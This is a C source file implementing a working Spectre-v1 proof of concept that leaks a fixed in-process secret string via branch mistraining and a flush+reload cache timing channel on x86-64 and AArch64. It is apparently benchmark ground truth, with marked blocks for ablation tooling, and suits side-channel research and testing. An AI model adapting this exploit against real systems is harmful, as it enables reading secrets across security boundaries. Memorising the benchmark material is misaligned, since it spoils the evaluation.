/*
 * Spectre-v1 ground truth.
 *
 * Leaks a fixed secret string through a flush+reload channel after
 * mistraining the bounds-check branch of victim_function. Builds on
 * x86-64 (rdtscp/clflush) and AArch64 (CNTVCT_EL0 / dc civac); any
 * other ISA fails the build on purpose.
 *
 * Metric blocks are delimited by open markers of the form
 *   "M<n>: <name>"  (block comment on its own line)
 * and close markers that are a line of asterisks. Tooling ablates and
 * restores these blocks; keep them contiguous and non-nested.
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#if defined(__x86_64__)
#include <x86intrin.h>
#elif defined(__aarch64__)
/* inline asm helpers below */
#else
#error "unsupported ISA: build on x86-64 or AArch64"
#endif

/* Overridable per host; see the calibration tool for measured values. */
#ifndef CACHE_HIT_THRESHOLD
#if defined(__aarch64__)
#define CACHE_HIT_THRESHOLD 2
#else
#define CACHE_HIT_THRESHOLD 80
#endif
#endif

#define PROBE_STRIDE 512

/* M1: Secret and Victim Buffer Declaration (placeholder) */
unsigned int array1_size = 16;
uint8_t padding1[64];
uint8_t array1[160] = {1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16};
uint8_t padding2[64];
uint8_t array2[256 * PROBE_STRIDE];
const char *secret = "It's a secret!!";
uint8_t temp = 0; /* keeps the victim read live under optimization */
/*************************************************/

static inline uint64_t timer_read(void)
{
#if defined(__x86_64__)
    unsigned int aux;
    return __rdtscp(&aux);
#else
    uint64_t value;
    __asm__ __volatile__("isb\n\tmrs %0, CNTVCT_EL0" : "=r"(value));
    return value;
#endif
}

static inline void flush_line(const void *address)
{
#if defined(__x86_64__)
    _mm_clflush(address);
#else
    __asm__ __volatile__("dc civac, %0" : : "r"(address) : "memory");
#endif
}

static inline void memory_fence(void)
{
#if defined(__x86_64__)
    _mm_mfence();
#else
    __asm__ __volatile__("dsb sy\n\tisb" : : : "memory");
#endif
}

/* M2: Victim Function Definition (placeholder) */
void victim_function(size_t x)
{
    if (x < array1_size) {
        temp &= array2[array1[x] * 512];
    }
}
/*************************************************/

/* M8: High-Resolution Timing & Serialization */
static inline uint64_t timed_access(volatile uint8_t *address)
{
    uint64_t start, elapsed;
    memory_fence();
    start = timer_read();
    (void)*address;
    elapsed = timer_read() - start;
    return elapsed;
}
/*************************************************/

/* M9: Hit/Miss Classification Threshold */
static inline int is_cache_hit(uint64_t elapsed_cycles)
{
    return elapsed_cycles < CACHE_HIT_THRESHOLD;
}
/*************************************************/

static unsigned int rng_state = 0x5eedu;

static unsigned int rng_next(void)
{
    rng_state ^= rng_state << 13;
    rng_state ^= rng_state >> 17;
    rng_state ^= rng_state << 5;
    return rng_state;
}

/* A stable reload stride lets the prefetcher warm the probe lines and
   drown the signal, so each try walks a freshly shuffled order. */
static void shuffle_order(int order[256])
{
    int i, j, tmp;
    for (i = 0; i < 256; i++) {
        order[i] = i;
    }
    for (i = 255; i > 0; i--) {
        j = (int)(rng_next() % (unsigned int)(i + 1));
        tmp = order[i];
        order[i] = order[j];
        order[j] = tmp;
    }
}

static void mistrain_and_access(int j, size_t training_x, size_t malicious_x)
{
    size_t x = training_x;

    /* M6: Bounds-Check Variable Flush (placeholder) */
    flush_line(&array1_size);
    /*************************************************/

    /* M7: Controlled Speculation Delay (placeholder) */
    for (volatile int z = 0; z < 100; z++) {
    }
    /*************************************************/

    /* M3: Controlled Branch Misprediction */
    /* Branchless select: x = malicious_x when !(j % 6), else training_x. */
    x = ((j % 6) - 1) & ~0xFFFF;
    x = (x | (x >> 16));
    x = training_x ^ (x & (malicious_x ^ training_x));
    /*************************************************/

    victim_function(x);
}

static void readMemoryByte(size_t malicious_x, uint8_t value[2], int score[2])
{
    static int results[256];
    static int reload_order[256];
    int tries, i, j, best, second;
    volatile uint8_t *address;
    size_t training_x;
    uint64_t elapsed;

    value[0] = value[1] = 0;
    score[0] = score[1] = 0;
    for (i = 0; i < 256; i++) {
        results[i] = 0;
    }

    for (tries = 999; tries > 0; tries--) {
        /* M5: Cache Eviction Targets & Placement */
        for (i = 0; i < 256; i++) {
            flush_line(&array2[i * PROBE_STRIDE]);
        }
        /*************************************************/

        training_x = tries % array1_size;

        /* M4: Branch Mistraining Loop Sequence */
        for (j = 29; j >= 0; j--) {
            mistrain_and_access(j, training_x, malicious_x);
        }
        /*************************************************/

        /* Reload each probe line in a fresh shuffled order. */
        shuffle_order(reload_order);
        for (i = 0; i < 256; i++) {
            int mix_i = reload_order[i];
            address = &array2[mix_i * PROBE_STRIDE];
            elapsed = timed_access(address);
            if (is_cache_hit(elapsed) && mix_i != (int)array1[training_x]) {
                results[mix_i]++;
            }
        }

        /* M10: Score Accumulation & Early-Stopping */
        best = 0;
        second = -1;
        for (i = 1; i < 256; i++) {
            if (results[i] > results[best]) {
                second = best;
                best = i;
            } else if (second < 0 || results[i] > results[second]) {
                second = i;
            }
        }
        if (second < 0) {
            second = (best + 1) & 255;
        }
        if (results[best] >= (2 * results[second] + 5) || tries == 1) {
            value[0] = (uint8_t)best;
            score[0] = results[best];
            value[1] = (uint8_t)second;
            score[1] = results[second];
            return;
        }
        /*************************************************/
    }
}

int main(void)
{
    size_t mal_x = (size_t)(secret - (char *)array1);
    int i, score[2], Length = strlen(secret);
    uint8_t value[2];
    int offset = 0;

    /* M11: Array/Probe Initialization */
    for (i = 0; i < (int)sizeof(array2); i++) {
        array2[i] = 1;
    }
    /*************************************************/

    printf("Reading %d bytes:\n", Length);
    while (--Length >= 0) {
        printf("Reading mal_x = %p\n", (void *)mal_x);
        readMemoryByte(mal_x++, value, score);
        printf("offset=%d 0x%02X='%c' score=%d %s\n",
               offset++,
               value[0],
               (value[0] > 31 && value[0] < 127 ? value[0] : '?'),
               score[0],
               (score[0] >= 2 * score[1] ? "Success" : "Unclear"));
    }
    return (0);
}
